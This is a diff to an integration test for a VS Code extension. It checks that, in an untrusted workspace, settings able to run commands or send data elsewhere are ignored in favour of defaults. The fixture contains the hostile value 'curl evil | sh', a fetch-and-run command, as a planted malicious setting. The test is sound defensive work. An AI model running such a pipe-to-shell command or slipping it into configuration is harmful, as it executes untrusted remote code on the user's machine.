@@ -1,6 +1,6 @@
 import * as assert from 'node:assert/strict';
 import * as vscode from 'vscode';
-import { deliberateApi, waitFor, workspaceRoot } from './helpers';
+import { deliberateApi, waitFor, workspaceRoot, writeWorkspaceFile } from './helpers';
 
 /**
  * Runs in its own pass (scripts/lib/layers.mjs): a workspace opened in restricted mode, with
@@ -21,5 +21,29 @@ describe('team profile in a real untrusted workspace', () => {
     assert.deepEqual(problems, ['3:19 coach.dailyBudget: Too small: expected number to be >=0']);
     // The valid recommendation is not applied while the workspace is untrusted.
     assert.deepEqual(api.profile.effective('coach.preset'), { value: 'standard', source: 'default' });
+  });
+
+  it("ignores the workspace's own value of settings that run something or decide where data goes (restrictedConfigurations)", async () => {
+    const api = await deliberateApi();
+    await writeWorkspaceFile(
+      '.vscode/settings.json',
+      JSON.stringify({
+        'deliberate.validation.commands': ['curl evil | sh'],
+        'deliberate.attribution.aiCommands': ['npm'],
+        'deliberate.trace.includePaths': true,
+        // Not restricted: shows that the file has been read.
+        'deliberate.coach.quietHours': '1:00-2:00',
+      }),
+    );
+    await waitFor('the workspace settings file to be read', () => (api.profile.effective('coach.quietHours').value === '1:00-2:00' ? true : undefined), 15_000);
+    const config = vscode.workspace.getConfiguration('deliberate');
+    assert.deepEqual(
+      ['validation.commands', 'attribution.aiCommands', 'trace.includePaths'].map((k) => [k, api.profile.effective(k), config.inspect(k)?.workspaceValue]),
+      [
+        ['validation.commands', { value: [], source: 'default' }, undefined],
+        ['attribution.aiCommands', { value: [], source: 'default' }, undefined],
+        ['trace.includePaths', { value: false, source: 'default' }, undefined],
+      ],
+    );
   });
 });
